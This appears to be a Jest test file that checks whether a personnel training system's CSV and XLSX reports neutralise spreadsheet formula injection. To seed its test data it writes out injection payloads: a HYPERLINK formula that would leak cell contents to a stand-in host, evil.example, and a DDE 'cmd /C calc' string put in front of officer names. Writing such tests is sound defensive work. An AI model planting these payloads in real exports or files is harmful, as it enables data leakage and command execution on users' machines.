import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { apiAs } from '../support/api-client';
import { createCourse, unitId } from '../support/catalogue-fixtures';
import { binary } from '../support/pdf';
import { createTestApp, TestApp } from '../support/test-app';

/** What HR's personnel file may hold: each character that starts a spreadsheet formula (OWASP). */
const PREFIXES = ['=', '+', '-', '@', '\t', '\r'];
const UNIT_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Открыть")';
const nameFor = (prefix: string) => `${prefix}cmd|' /C calc'!A0 Әлиев`;

/** Every cell of every sheet, as ExcelJS reads it back. */
async function xlsxCells(body: Buffer): Promise<ExcelJS.Cell[]> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(body as unknown as ArrayBuffer);
  const cells: ExcelJS.Cell[] = [];
  workbook.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((cell) => cells.push(cell))));
  return cells;
}

/** A text that would be a formula must reach the spreadsheet as a string cell holding that text as it is. */
function expectStringCells(cells: ExcelJS.Cell[], texts: string[]): void {
  for (const text of texts) {
    // XML reads a raw carriage return back as a line feed; the cell is a string either way.
    const lf = (value: string) => value.replace(/\r/g, '\n');
    const cell = cells.find((c) => typeof c.value === 'string' && lf(c.value).startsWith(lf(text)));
    expect(cell ? text : JSON.stringify(text)).toBe(text);
    expect(cell!.type).toBe(ExcelJS.ValueType.String);
    expect(cell!.formula).toBeUndefined();
  }
  expect(cells.some((c) => c.type === ExcelJS.ValueType.Formula)).toBe(false);
}

describe('formula-safe exports', () => {
  let t: TestApp;
  let hr: string;
  let unit: string;
  let courseId: string;
  let orderId: string;
  const officerNames = PREFIXES.map(nameFor);

  beforeAll(async () => {
    t = await createTestApp();
    hr = await t.login('hr.almaty');
    const created = await apiAs(t, await t.login('admin'))
      .post('/units')
      .send({ code: 'ALM-FX', name: UNIT_NAME, parentId: await unitId(t, 'ALM') });
    expect(created.status).toBe(201);
    unit = created.body.id;
    // Straight into the table, as a personnel system might have them: the API would trim a leading tab or CR.
    await t.sql(
      `INSERT INTO officer (personnel_number, full_name, rank, position, service_type, unit_id, status, language)
       SELECT 'FX-' || i, name, '-1', '@SUM(1+1)', 'patrol', $2, 'active', 'kk'
       FROM unnest($1::text[]) WITH ORDINALITY AS n(name, i)`,
      [officerNames, unit],
    );
    courseId = (await createCourse(t, 'FX-COURSE')).courseId;
    const order = await apiAs(t, hr)
      .post('/orders')
      .send({ number: '+FX/1', date: '2026-01-15', title: '=1+1 приказ', courseIds: [courseId] });
    expect(order.status).toBe(201);
    orderId = order.body.id;
    const rule = await apiAs(t, hr)
      .post('/assignment-rules')
      .send({ courseId, orderId, audience: { unitIds: [unit] }, dueInDays: 30 });
    expect(rule.status).toBe(201);
    expect(rule.body.enrolled).toBe(PREFIXES.length);
  });

  afterAll(() => t?.close());

  it('neutralises a unit name in the compliance CSV and keeps it a string cell in XLSX', async () => {
    const csv = await apiAs(t, hr).get(`/reports/compliance?unitId=${unit}&format=csv`);
    expect(csv.status).toBe(200);
    const lines: string[][] = parse(csv.text.slice(1), { delimiter: ';' });
    expect(lines[1][1].startsWith(`'${UNIT_NAME}`)).toBe(true);
    const parent = await apiAs(t, hr).get(`/reports/compliance?unitId=${await unitId(t, 'ALM')}&format=csv&lang=en`);
    expect(parent.text).toContain(`"'${UNIT_NAME.replace(/"/g, '""')}"`);

    const xlsx = await apiAs(t, hr).get(`/reports/compliance?unitId=${unit}&format=xlsx`).buffer(true).parse(binary);
    expect(xlsx.status).toBe(200);
    expectStringCells(await xlsxCells(xlsx.body as Buffer), [UNIT_NAME]);
  });

  it('neutralises names, ranks and positions in the drill-down CSV and keeps them strings in XLSX', async () => {
    const base = `/reports/compliance/officers?unitId=${unit}&orderId=${orderId}`;
    const csv = await apiAs(t, hr).get(`${base}&format=csv`);
    expect(csv.status).toBe(200);
    const lines: string[][] = parse(csv.text.slice(1), { delimiter: ';' });
    expect(
      lines
        .slice(1)
        .map((line) => line[1])
        .sort(),
    ).toEqual(officerNames.map((name) => `'${name}`).sort());
    expect(lines.slice(1).every((line) => line[2] === "'-1" && line[3] === "'@SUM(1+1)")).toBe(true);
    expect(lines.slice(1).every((line) => line[5] === `'${UNIT_NAME}`)).toBe(true);
    const xlsx = await apiAs(t, hr).get(`${base}&format=xlsx`).buffer(true).parse(binary);
    expectStringCells(await xlsxCells(xlsx.body as Buffer), [...officerNames, '-1', '@SUM(1+1)', UNIT_NAME]);
  });

  it('neutralises them in a frozen execution report’s CSV and keeps them strings in its XLSX', async () => {
    const snapshot = await apiAs(t, hr).post(`/orders/${orderId}/execution-reports`).send({ unitId: unit });
    expect(snapshot.status).toBe(201);
    const csv = await apiAs(t, hr).get(`/execution-reports/${snapshot.body.id}?format=csv&lang=en`);
    expect(csv.status).toBe(200);
    const lines: string[][] = parse(csv.text.slice(1), { relax_column_count: true });
    const cells = lines.flat();
    for (const name of officerNames) {
      expect(cells).toContain(`'${name}`);
      expect(cells).not.toContain(name);
    }
    const xlsx = await apiAs(t, hr)
      .get(`/execution-reports/${snapshot.body.id}?format=xlsx&lang=kk`)
      .buffer(true)
      .parse(binary);
    expectStringCells(await xlsxCells(xlsx.body as Buffer), [...officerNames, '-1']);
  });

  it('neutralises officer names in the account list CSV', async () => {
    const res = await apiAs(t, hr).post('/officer-accounts').send({ unitId: unit });
    expect(res.status).toBe(201);
    const rows: { full_name: string }[] = parse(res.text, { columns: true });
    expect(rows.map((row) => row.full_name).sort()).toEqual(officerNames.map((name) => `'${name}`).sort());
  });
});
